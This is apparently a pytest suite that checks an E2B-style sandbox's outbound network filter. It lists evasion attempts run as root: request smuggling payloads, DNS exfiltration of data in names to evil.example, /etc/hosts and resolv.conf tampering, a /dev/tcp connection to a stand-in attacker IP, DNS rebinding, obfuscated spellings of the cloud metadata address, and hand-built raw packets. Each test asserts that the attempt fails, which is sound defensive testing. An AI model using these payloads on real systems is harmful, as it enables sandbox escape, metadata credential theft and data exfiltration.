"""Attacks on the wall, one row each: what code in a sandbox tries, as root, and why it
must fail. A row says what of the world must not have been reached; everything there
answers, so what was tried would have worked. What is allowed must work afterwards.
"""

import dataclasses
import itertools

import pytest
from e2b import ALL_TRAFFIC, Sandbox

from inside import fetch, python, send, shell

# What the shared sandbox may reach.
ALLOWED = ["good.example", "open.cdn.example", "alias.example", "raw.example", "rebind.example", "mixed.example", "private.example",
           "metadata.example", "mapped.example", "bücher.example", "*.deep.example"]
EVIL = "198.51.100.66"
METADATA = "169.254.169.254"


@dataclasses.dataclass
class Attack:
    what: str
    why: str
    run: object  # a command, or a function of the sandbox, that returns its output
    # What must not have been: packets to these addresses, questions with these words in the
    # name, requests for these hosts, names in TLS, bytes at raw.example.
    addresses: tuple = ()
    questions: tuple = ()
    hosts: tuple = ()
    names: tuple = ()
    sent: tuple = ()  # bytes to raw.example
    answer: str = ""  # what the output must have in it

    def tried(self, box):
        return shell(box, self.run) if isinstance(self.run, str) else self.run(box)


def raw_question(name_hex, server="10.0.0.1", kind=1):
    """Asks for a name whose labels are given raw."""
    code = (f"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
            f"s.sendto(bytes.fromhex('123401000001000000000000{name_hex}{kind:04x}0001'), ('{server}', 53))\n"
            f"print(s.recv(512).hex())")
    return lambda box: python(box, code)


def client_hello(name):
    """The first bytes of TLS with any bytes as the server's name."""
    sni = b"\0" + len(name).to_bytes(2) + name
    extension = b"\0\0" + (len(sni) + 2).to_bytes(2) + len(sni).to_bytes(2) + sni
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\4\x13\1\xc0\x2f" + b"\1\0" + len(extension).to_bytes(2) + extension
    message = b"\1" + len(body).to_bytes(3) + body
    return b"\x16\3\1" + len(message).to_bytes(2) + message


def request(host, path="/", version="1.1", extra=""):
    return f"GET {path} HTTP/{version}\r\nHost: {host}\r\n{extra}\r\n"


TO_METADATA = [  # spellings that some program or library takes for 169.254.169.254
    "169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "0xa9.0xfe.0xa9.0xfe",
    "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]",
    "169.254.169.254.", "metadata.example", "169。254。169。254", "①⑥⑨.②⑤④.①⑥⑨.②⑤④",
]

ATTACKS = [
    # --- addresses in place of names ---
    Attack("a bare address, http", "only names are allowed", f"curl -sS -m 5 http://{EVIL}/", addresses=(EVIL,)),
    Attack("a bare address, https", "a handshake without a name is for nobody", f"curl -ksS -m 5 https://{EVIL}/", addresses=(EVIL,)),
    Attack("a bare address of an allowed name", "it was not asked for by that name",
           "curl -ksS -m 5 https://203.0.113.10/", hosts=("203.0.113.10",), names=(None, "203.0.113.10")),
    Attack("a bare address, a port that is neither", "there is no name to allow", f"curl -sS -m 5 http://{EVIL}:8080/", addresses=(EVIL,)),
    Attack("an allowed name said to another address, https", "the name does not have that address",
           f"curl -ksS -m 5 --resolve good.example:443:{EVIL} https://good.example/", addresses=(EVIL,)),
    Attack("an allowed name said to another address, http", "the name does not have that address",
           f"curl -sS -m 5 --resolve good.example:80:{EVIL} http://good.example/", addresses=(EVIL,)),
    Attack("an allowed name of /etc/hosts", "the gateway looks names up itself",
           f"cp /etc/hosts /tmp/h; echo '{EVIL} good.example' >>/etc/hosts; curl -ksS -m 5 https://good.example/; cat /tmp/h >/etc/hosts",
           addresses=(EVIL,)),

    # --- names that do not agree ---
    Attack("SNI of another site behind the same address", "the handshake names what is not allowed",
           "curl -ksS -m 5 --connect-to hidden.cdn.example:443:open.cdn.example:443 https://hidden.cdn.example/",
           hosts=("hidden",), names=("hidden.cdn.example",)),
    Attack("Host of another site behind the same address", "the request is for what is not allowed",
           "curl -sS -m 5 -H 'Host: hidden.cdn.example' http://open.cdn.example/", hosts=("hidden",), answer="hidden.cdn.example"),
    Attack("Host of another site in the second request", "each request is judged, not the first alone",
           lambda box: send(box, "open.cdn.example", 80, request("open.cdn.example") + request("hidden.cdn.example", "/second")), hosts=("hidden",)),
    Attack("a URL of another site in the request line", "the request line counts before Host",
           lambda box: send(box, "raw.example", 80, request("raw.example", "http://hidden.cdn.example/")), sent=(b"hidden",)),
    Attack("two Hosts", "a request has one host",
           lambda box: send(box, "raw.example", 80, request("raw.example", extra="Host: hidden.cdn.example\r\n")), sent=(b"hidden",)),
    Attack("two Hosts, the other first", "a request has one host",
           lambda box: send(box, "raw.example", 80, request("hidden.cdn.example", extra="Host: raw.example\r\n")), sent=(b"hidden",)),
    Attack("no Host", "a request without host is for nobody",
           lambda box: send(box, "raw.example", 80, "GET /nohost HTTP/1.0\r\n\r\n"), sent=(b"nohost",)),
    Attack("no SNI", "a handshake without a name is for nobody",
           lambda box: send(box, "open.cdn.example", 443, request("hidden.cdn.example"), tls=""), hosts=("hidden",), names=(None,)),
    Attack("CONNECT at an allowed server", "the way on would be to another host",
           "curl -sS -m 5 -p -x http://open.cdn.example:80 http://evil.example/", hosts=("evil",), addresses=(EVIL,)),
    Attack("HTTP/2 without TLS for another host", "requests in it cannot be told apart by their first bytes",
           "curl -sS -m 5 --http2-prior-knowledge -H 'Host: hidden.cdn.example' http://open.cdn.example/", hosts=("hidden",)),

    # --- smuggling ---
    Attack("a request behind a length and a chunked body", "two lengths are none",
           lambda box: send(box, "raw.example", 80, "POST / HTTP/1.1\r\nHost: raw.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                            + request("hidden.cdn.example")), sent=(b"hidden",)),
    Attack("a request behind two lengths", "two lengths are none",
           lambda box: send(box, "raw.example", 80, "POST / HTTP/1.1\r\nHost: raw.example\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n"
                            + request("hidden.cdn.example")), sent=(b"hidden",)),
    Attack("a request behind an odd chunked", "an encoding that not all understand alike",
           lambda box: send(box, "raw.example", 80, "POST / HTTP/1.1\r\nHost: raw.example\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
                            + request("hidden.cdn.example")), sent=(b"hidden",)),
    Attack("a header folded over a line", "an old form that not all understand alike",
           lambda box: send(box, "raw.example", 80, "GET / HTTP/1.1\r\nX: a\r\n Host: hidden.cdn.example\r\nHost: raw.example\r\n\r\n"), sent=(b"\n Host: hidden", b"\nHost: hidden")),
    Attack("lines that end otherwise", "a server may see other lines",
           lambda box: send(box, "raw.example", 80, "GET / HTTP/1.1\nHost: raw.example\nX: a\rHost: hidden.cdn.example\n\n"), sent=(b"hidden",)),
    Attack("another protocol after an upgrade that nobody agreed to", "the bytes after are requests like others",
           lambda box: send(box, "raw.example", 80, request("raw.example", extra="Connection: Upgrade\r\nUpgrade: websocket\r\n")
                            + request("hidden.cdn.example")), sent=(b"hidden",)),

    *[Attack(f"a request behind {what}", "servers answer to it and go on, so it is a request like others",
             lambda box, first=first: send(box, "raw.example", 8080, first + " / HTTP/1.1\r\nHost: raw.example\r\n\r\n" + request("hidden.cdn.example")), sent=(b"hidden",))
      for what, first in (("one whose method is long", "A" * 40), ("one whose method is very long", "A" * 9000), ("one after a space", " GET"), ("one without a method", "<>"))],
    Attack("a handshake behind an alert", "servers skip the alert, so what follows counts",
           lambda box: send(box, "raw.example", 8080, b"\x15\3\1\0\2\1\x64" + client_hello(b"hidden.cdn.example")), sent=(b"hidden",)),

    # --- names as a way out ---
    Attack("data in a name", "a refused name is never asked for outside", "getent ahostsv4 c2VjcmV0.evil.example", questions=("evil",)),
    Attack("data in a name below an allowed one", "an allowed name allows itself only",
           "getent ahostsv4 c2VjcmV0.good.example; getent ahostsv4 c2VjcmV0.deep.example.evil.example", questions=("c2vjcmv0",)),
    Attack("data in questions of other kinds", "the name is judged, not the kind",
           lambda box: "".join(raw_question("0464617461" "046576696c" "076578616d706c65" "00", kind=kind)(box) for kind in (5, 15, 16, 33, 255)),
           questions=("data",)),
    Attack("a question over TCP", "the same rules", lambda box: python(box, TCP_QUESTION), questions=("data",)),
    Attack("a question to a name server outside", "names are asked of the gateway", raw_question("0464617461" "046576696c" "076578616d706c65" "00", "203.0.113.53"),
           questions=("data",)),
    Attack("a question for an allowed name to another server", "only the gateway asks", raw_question("04676f6f64" "076578616d706c65" "00", EVIL), addresses=(EVIL,)),
    Attack("another server in resolv.conf", "no datagram reaches it",
           "cp /etc/resolv.conf /tmp/r; echo 'nameserver 198.51.100.66' >/etc/resolv.conf; getent ahostsv4 data.evil.example; cat /tmp/r >/etc/resolv.conf",
           questions=("data",), addresses=(EVIL,)),
    Attack("a name with NUL", "what cannot be a name is refused", raw_question("0e" + b"attacker\0.good".hex() + "076578616d706c65" "00"), questions=("attacker",)),
    Attack("DNS over TLS", "port 853 is a port like others", "timeout 5 bash -c 'exec 3<>/dev/tcp/198.51.100.66/853; echo hi >&3'", addresses=(EVIL,)),

    # --- rebinding ---
    Attack("an allowed name that leads to a private address", "addresses are judged after the lookup",
           "curl -sS -m 5 http://private.example/; curl -ksS -m 5 https://private.example/", addresses=("10.1.2.3",)),
    Attack("an allowed name with one private address among others", "that one is left out",
           "for i in 1 2 3; do curl -sS -m 5 http://mixed.example/; done", addresses=("10.1.2.3",), answer="mixed.example"),
    Attack("a name whose address changes after the lookup", "what was looked up is what is dialled",
           "for i in $(seq 8); do curl -sS -m 3 http://rebind.example/ >/dev/null; sleep 0.4; done", addresses=("10.1.2.3", METADATA, "127.0.0.1", "192.0.2.1")),

    # --- names in other forms ---
    Attack("attacker\\0.good.example as Host", "what cannot be a name is refused",
           lambda box: send(box, "good.example", 80, request("attacker.evil.example\0.good.example")), hosts=("attacker",)),
    Attack("attacker\\0.good.example as SNI", "what cannot be a name is refused",
           lambda box: send(box, "good.example", 443, client_hello(b"attacker.evil.example\0good.example")), names=("attacker.evil.example",)),
    Attack("a refused name with a dot at the end", "it is the same name", "curl -sS -m 5 http://evil.example./; curl -ksS -m 5 https://evil.example./",
           addresses=(EVIL,), questions=("evil",)),
    Attack("a refused name in capitals", "it is the same name", "curl -sS -m 5 http://EVIL.Example/", addresses=(EVIL,), questions=("evil",)),
    Attack("a name that only ends like an allowed one", "a name ends at a dot", "curl -sS -m 5 http://notgood.example/", questions=("notgood",)),
    Attack("user and port in the URL", "the host is what comes after them",
           "curl -sS -m 5 'http://good.example:80@evil.example/'; curl -sS -m 5 'http://good.example#@evil.example/' -H 'Host: evil.example'", addresses=(EVIL,), hosts=("evil",)),

    # --- redirects ---
    Attack("a redirect to a private address", "a redirect is a new connection",
           f"curl -sSL -m 5 'http://good.example/redirect?to=http://{METADATA}/latest'", addresses=(METADATA,)),
    Attack("a redirect to a refused name", "a redirect is a new connection",
           "curl -sSL -m 5 'http://good.example/redirect?to=http://evil.example/'", addresses=(EVIL,), questions=("evil",)),

    # --- IPv6 ---
    *[Attack(f"IPv6 form {address}", "there is no IPv6, and no form of IPv4 in it", f"curl -gsS -m 5 'http://[{address}]/'",
             addresses=(EVIL, address, "2001:db8:2::10")) for address in
      (f"::ffff:{EVIL}", "64:ff9b::c633:6442", "2002:c633:6442::", "::c633:6442", "2001:db8:2::10")],

    # --- UDP ---
    Attack("a datagram to an address", "UDP is closed unless allowed",
           lambda box: python(box, DATAGRAM, EVIL, "7"), addresses=(EVIL,)),
    Attack("QUIC to an allowed name", "it would hide which name it is for",
           lambda box: python(box, DATAGRAM, "good.example", "443"), addresses=("203.0.113.10",)),
    Attack("a fragmented datagram", "fragments are judged whole",
           lambda box: python(box, DATAGRAM, EVIL, "7", "4000"), addresses=(EVIL,)),

    # --- proxies ---
    Attack("HTTPS_PROXY", "a proxy is a destination like others", "HTTPS_PROXY=http://proxy.example:3128 curl -ksS -m 5 https://evil.example/",
           addresses=("203.0.113.40", EVIL), questions=("proxy",)),
    Attack("a SOCKS proxy by address", "a proxy is a destination like others", "curl -sS -m 5 -x socks5h://203.0.113.40:1080 http://evil.example/",
           addresses=("203.0.113.40", EVIL)),

    # --- root inside, and its own network ---
    Attack("another address of its own", "every frame meets the gateway",
           f"ip addr add 198.51.100.7/24 dev eth0; ip route add {EVIL} dev eth0; curl -sS -m 3 --interface 198.51.100.7 http://{EVIL}/; ip addr del 198.51.100.7/24 dev eth0",
           addresses=(EVIL,)),
    Attack("the gateway's address", "what comes from inside is inside",
           f"ip addr add 10.0.0.1/32 dev lo; curl -sS -m 3 --interface 10.0.0.1 http://{EVIL}/; ip addr del 10.0.0.1/32 dev lo", addresses=(EVIL,)),
    Attack("another route", "there is one way", f"ip route add {METADATA} via 10.0.0.1; ip route add {METADATA} dev eth0; curl -sS -m 3 http://{METADATA}/", addresses=(METADATA,)),
    Attack("ping", "only TCP, UDP and names are carried", lambda box: python(box, PING), addresses=(EVIL,)),
    Attack("packets made by hand", "they meet the gateway as well", lambda box: python(box, RAW_PACKETS), addresses=(EVIL, METADATA, "10.1.2.3")),
    Attack("frames made by hand", "they meet the gateway as well", lambda box: python(box, RAW_FRAMES), addresses=(EVIL, METADATA, "10.1.2.3")),
]

TCP_QUESTION = r'''
import socket
question = bytes.fromhex("1234010000010000000000000464617461046576696c076578616d706c650000010001")
with socket.create_connection(("10.0.0.1", 53), timeout=5) as peer:
    peer.sendall(len(question).to_bytes(2) + question)
    peer.settimeout(1)
    print(peer.recv(600).hex())
'''

DATAGRAM = r'''
import socket, sys
peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer.settimeout(1)
size = int(sys.argv[3]) if len(sys.argv) > 3 else 1200
peer.sendto(b"\xc0" * size, (sys.argv[1], int(sys.argv[2])))
print(len(peer.recv(9000)))
'''

PING = r'''
import socket
peer = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
peer.settimeout(1)
peer.sendto(bytes.fromhex("0800f7fd00010001"), ("198.51.100.66", 0))
print(peer.recv(100))
'''

PACKETS = r'''
import socket, struct
def sum16(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def packet(source, target, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", sum16(head)) + head[12:] + body
def syn(source, target):
    body = struct.pack("!HHIIBBHHH", 4000, 80, 1, 0, 0x50, 2, 1000, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(body))
    return body[:16] + struct.pack("!H", sum16(pseudo + body)) + body[18:]
def attempts():
    for source in ("10.0.0.2", "10.0.0.1", "192.0.2.1", "127.0.0.1"):
        for target in ("198.51.100.66", "169.254.169.254", "10.1.2.3"):
            yield packet(source, target, 6, syn(source, target)), target
            yield packet(source, target, 17, struct.pack("!HHHH", 4000, 7, 12, 0) + b"data"), target
            yield packet(source, target, 1, bytes.fromhex("0800f7fd00010001")), target
            yield packet(source, target, 47, b"\0\0\x08\0" + packet(source, target, 1, bytes.fromhex("0800f7fd00010001"))), target
'''

RAW_PACKETS = PACKETS + r'''
peer = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for data, target in attempts():
    try:
        peer.sendto(data, (target, 0))
    except OSError as error:
        print(error)
print("sent")
'''

RAW_FRAMES = PACKETS + r'''
peer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
peer.bind(("eth0", 0))
own = open("/sys/class/net/eth0/address").read().strip() if __import__("os").path.exists("/sys/class/net/eth0/address") else "02:00:00:00:00:02"
own = bytes.fromhex(own.replace(":", ""))
for to in (b"\xff" * 6, b"\2\0\0\0\0\1", own):
    for data, target in attempts():
        try:
            peer.send(to + own + b"\x08\0" + data)
        except OSError as error:
            print(error)
print("sent")
'''


@pytest.fixture(scope="module")
def fenced(server):
    """A sandbox that may reach some names only."""
    with Sandbox.create(timeout=900, network={"allow_out": ALLOWED, "deny_out": [ALL_TRAFFIC]}) as sandbox:
        yield sandbox


@pytest.fixture(scope="module")
def wide(server):
    """One whose rules allow all there is, private addresses too, which no rule can."""
    with Sandbox.create(timeout=900, network={"allow_out": [ALL_TRAFFIC, METADATA, "10.0.0.0/8"]}) as sandbox:
        yield sandbox


def changing(first, *then):
    """A name's record that says first what is harmless and then each of then in turn."""
    answers = itertools.chain([[first]], itertools.cycle([[address] for address in then]))
    return lambda: next(answers)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.what)
def test_attack(fenced, world, attack):
    world.names.records["rebind.example"] = changing("203.0.113.10", "10.1.2.3", METADATA, "127.0.0.1", "192.0.2.1")
    world.names.ttl = 0
    out = attack.tried(fenced)
    for address in attack.addresses:
        assert world.packets.seen(address=address) == [], attack.why
    for word in attack.questions:
        assert world.names.asked(word) == [], attack.why
    for host in attack.hosts:
        assert world.origin.requests(host=host) == [], attack.why
    for part in attack.sent:
        assert part not in b"".join(world.listener.received.all()), attack.why
    for name in attack.names:
        assert name not in world.origin.handshakes, attack.why
    assert attack.answer in out, attack.why
    assert fetch(fenced, "http://good.example/") == (200, "good.example\n"), "what is allowed works no more"


@pytest.mark.parametrize("rules", ["box", "fenced", "wide"])
def test_the_metadata_address_in_every_spelling(request, world, rules):
    """No rule opens it, and no spelling gets past the judgement, which is on the address
    that is dialled."""
    tries = [f"curl -gfksS -m 5 '{scheme}://{spelling}/meta-data' >/dev/null 2>&1 && echo '{spelling}' &"
             for spelling in TO_METADATA for scheme in ("http", "https")]
    assert shell(request.getfixturevalue(rules), "\n".join([*tries, "wait"])) == ""
    assert world.packets.seen(address=METADATA) == []
    assert world.origin.requests("meta-data") == []


@pytest.mark.parametrize("url, host", [
    ("http://good.example./", "good.example"),  # the root's dot changes nothing
    ("http://GOOD.example/", "good.example"),
    ("https://GOOD.example/", "good.example"),
    ("http://alias.example/", "alias.example"),  # allowed itself, an alias of what is allowed
    ("http://xn--bcher-kva.example/", "xn--bcher-kva.example"),
    ("http://bücher.example/", "xn--bcher-kva.example"),
])
def test_other_forms_of_an_allowed_name_work(fenced, world, url, host):
    status, _ = fetch(fenced, url)
    assert status == 200
    assert world.origin.requests()[0].host.rstrip(".").lower() == host


def test_letter_case_carries_nothing_out(fenced, world):
    shell(fenced, "getent ahostsv4 GoOd.eXaMpLe")
    assert {name for name, _ in world.names.spelled() if name.lower() == "good.example"} == {"good.example"}
